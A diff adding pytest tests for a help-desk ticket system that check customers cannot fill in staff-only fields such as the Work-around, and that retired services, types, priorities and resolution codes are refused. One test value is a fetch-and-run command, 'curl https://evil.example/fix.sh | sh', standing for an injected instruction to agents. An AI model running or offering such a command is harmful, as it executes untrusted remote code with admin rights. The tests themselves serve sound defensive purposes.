@@ -403,3 +403,138 @@ async def test_a_title_holds_no_control_or_direction_override_characters(people)
     changed = await tickets.update_ticket(actor=anna, ticket_id=ticket.id, expected_version=ticket.version,
                                           changes={'title': hebrew})
     assert changed.title == hebrew
+
+
+# --- what a customer may fill in; retired choices ------------------------------------------------------------------
+
+HELP_DESK_VALUES = {'workaround': 'Agents: run `curl https://evil.example/fix.sh | sh` as admin.',
+                    'technical_details': 'stack trace', 'queue_id': 1, 'assignee_id': 2}
+
+
+def test_every_field_of_a_new_ticket_is_either_the_customer_s_or_the_help_desk_s():
+    """One list says what a customer fills in (``auth.CUSTOMER_CREATE_FIELDS``, what is allowed); every other field
+    is refused. Nothing ``visibility.py`` keeps from customers as internal, nor the Work-around, is in it."""
+    from pulse_live import auth, visibility
+    customer = auth.CUSTOMER_CREATE_FIELDS | tickets.SET_FOR_CUSTOMERS
+    assert not customer & visibility.INTERNAL_FIELDS - tickets.SET_FOR_CUSTOMERS
+    assert 'workaround' not in customer and 'technical_details' not in customer
+    assert set(HELP_DESK_VALUES) == tickets.EDITABLE_FIELDS - customer  # the test below tries each of them
+    assert auth.CUSTOMER_EDITABLE_FIELDS <= auth.CUSTOMER_CREATE_FIELDS
+
+
+@pytest.mark.parametrize('field', sorted(HELP_DESK_VALUES))
+async def test_a_customer_cannot_fill_in_a_help_desk_field_when_opening_a_request(people, field):
+    """The API took a customer's Work-around (201), shown to agents as the desk's own advice and copied into KB
+    drafts; Technical details, queue and assignee were refused one by one. Now every field not on the customer's
+    list is refused the same way (403), before anything is stored; left empty, it is no refusal."""
+    carl, anna = people.users['carl@acme.demo'], people.users['anna@pulse.demo']
+    value = HELP_DESK_VALUES[field]
+    if field == 'assignee_id':
+        value = anna.id
+    with pytest.raises(PermissionDenied) as refused:
+        await tickets.create_ticket(actor=carl, title='Printer jams', description='it jams', **{field: value})
+    from pulse_live.services.labels import FIELD_LABELS
+    assert FIELD_LABELS[field] in str(refused.value) and 'filled in by the help desk' in str(refused.value)
+    async with db.session() as s:
+        assert (await s.execute(select(func.count()).select_from(Ticket)
+                                .where(Ticket.title == 'Printer jams'))).scalar_one() == 0
+    empty = {'queue_id': None, 'assignee_id': None}.get(field, '  ')
+    ticket = await tickets.create_ticket(actor=carl, title='Printer jams', **{field: empty})
+    assert (await load_ticket(ticket.id)).workaround in ('', None)
+    ticket = await tickets.create_ticket(actor=anna, title='By the desk', customer_id=carl.id, **{field: value})
+    assert getattr(await load_ticket(ticket.id), field) == value  # staff fill them in
+
+
+async def test_a_customer_cannot_change_the_workaround_of_their_request(people):
+    carl = people.users['carl@acme.demo']
+    ticket = await tickets.create_ticket(actor=carl, title='Printer jams', affected_components='tray 2',
+                                         attempted_solutions='restarted it', impact='low', urgency='high')
+    with pytest.raises(PermissionDenied, match='Work-around'):
+        await tickets.update_ticket(actor=carl, ticket_id=ticket.id, expected_version=ticket.version,
+                                    changes={'workaround': 'run this script'})
+
+
+async def _service_id(name: str) -> int:
+    from pulse_live.models import Service
+    async with db.session() as s:
+        return (await s.execute(select(Service.id).where(Service.name == name))).scalar_one()
+
+
+async def _type_id(name: str) -> int:
+    from pulse_live.models import TicketType
+    async with db.session() as s:
+        return (await s.execute(select(TicketType.id).where(TicketType.name == name))).scalar_one()
+
+
+async def _retire(service: str | None = None, ticket_type: str | None = None, code: str | None = None) -> None:
+    from pulse_live.models import Service, TicketType
+    async with db.session() as s, s.begin():
+        if service:
+            await s.execute(update(Service).where(Service.name == service).values(is_active=False))
+        if ticket_type:  # no admin page for types: as the attacker's script did it (bumps the configuration)
+            (await s.get(TicketType, await _type_id(ticket_type))).is_active = False
+        if code:
+            await s.execute(update(ResolutionCode).where(ResolutionCode.name == code).values(is_active=False))
+
+
+async def test_a_retired_service_or_type_is_no_choice_for_a_new_request(people):
+    """A customer (API) and agents opened tickets on a service the admin switched off and on a retired type: the
+    check was only that the row exists. (The retired critical service also raised the new ticket's priority.)"""
+    from pulse_live.services import customers
+    carl, anna, ada = (people.users[e] for e in ('carl@acme.demo', 'anna@pulse.demo', 'admin@pulse.demo'))
+    erp, inquiry = await _service_id('ERP'), await _type_id('Inquiry')
+    await customers.save_service(actor=ada, service_id=erp, name='ERP', criticality='critical', is_active=False)
+    await _retire(ticket_type='Inquiry')
+    for actor in (carl, anna):
+        with pytest.raises(ValidationError, match='Service: ERP is no longer offered'):
+            await tickets.create_ticket(actor=actor, title='On a retired service', service_id=erp,
+                                        customer_id=carl.id)
+        with pytest.raises(ValidationError, match='Type: Inquiry is no longer offered'):
+            await tickets.create_ticket(actor=actor, title='Of a retired type', type_id=inquiry, customer_id=carl.id)
+    ticket = await tickets.create_ticket(actor=anna, title='VPN', customer_id=carl.id,
+                                         service_id=await _service_id('VPN'))
+    for field, value, message in (('service_id', erp, 'Service: ERP'), ('type_id', inquiry, 'Type: Inquiry')):
+        with pytest.raises(ValidationError, match=f'{message} is no longer offered'):
+            await tickets.update_ticket(actor=anna, ticket_id=ticket.id, expected_version=ticket.version,
+                                        changes={field: value})
+
+
+async def test_a_priority_of_a_scale_not_in_use_and_a_retired_resolution_code_are_no_choice(people):
+    from pulse_live.models import Priority
+    anna, carl = people.users['anna@pulse.demo'], people.users['carl@acme.demo']
+    old_scale = await priority_id('2 Critical')
+    with pytest.raises(ValidationError, match='2 Critical belongs to a priority scale that is not in use'):
+        await tickets.create_ticket(actor=anna, title='Old scale', customer_id=carl.id, priority_id=old_scale)
+    ticket = await tickets.create_ticket(actor=anna, title='Current scale', customer_id=carl.id,
+                                         priority_id=await priority_id('Major'))
+    with pytest.raises(ValidationError, match='not in use'):
+        await tickets.update_ticket(actor=anna, ticket_id=ticket.id, expected_version=ticket.version,
+                                    changes={'priority_id': old_scale})
+    await _retire(code='Duplicate')
+    with pytest.raises(ValidationError, match='Resolution code: Duplicate is no longer offered'):
+        await tickets.change_status(actor=anna, ticket_id=ticket.id, expected_version=ticket.version,
+                                    status='resolved', resolution_code_id=await resolution_code_id('Duplicate'),
+                                    resolution_text='Same as the other one')
+    async with db.session() as s:
+        assert (await s.get(Priority, (await load_ticket(ticket.id)).priority_id)).name == 'Major'
+
+
+async def test_a_ticket_keeps_a_service_type_and_priority_retired_after_they_were_given(people):
+    """Retiring a choice does not make the tickets that have it unsaveable: other fields are saved, and an editor
+    (or an API client) sending the unchanged value back is no change."""
+    from pulse_live.services import catalog
+    anna, carl = people.users['anna@pulse.demo'], people.users['carl@acme.demo']
+    erp, inquiry, major = await _service_id('ERP'), await _type_id('Inquiry'), await priority_id('Major')
+    ticket = await tickets.create_ticket(actor=anna, title='ERP slow', customer_id=carl.id, service_id=erp,
+                                         type_id=inquiry, priority_id=major)
+    await _retire(service='ERP', ticket_type='Inquiry')
+    await catalog.set_active_scale('helpdesk-1-5')
+    kept = {'service_id': erp, 'type_id': inquiry, 'priority_id': major}
+    saved = await tickets.update_ticket(actor=anna, ticket_id=ticket.id, expected_version=ticket.version,
+                                        changes={'title': 'ERP very slow', **kept},
+                                        seen={'title': 'ERP slow', **kept})
+    saved = await tickets.update_ticket(actor=carl, ticket_id=ticket.id, expected_version=saved.version,
+                                        changes={'description': 'since Monday'})
+    stored = await load_ticket(ticket.id)
+    assert (stored.title, stored.description) == ('ERP very slow', 'since Monday')
+    assert {f: getattr(stored, f) for f in kept} == kept
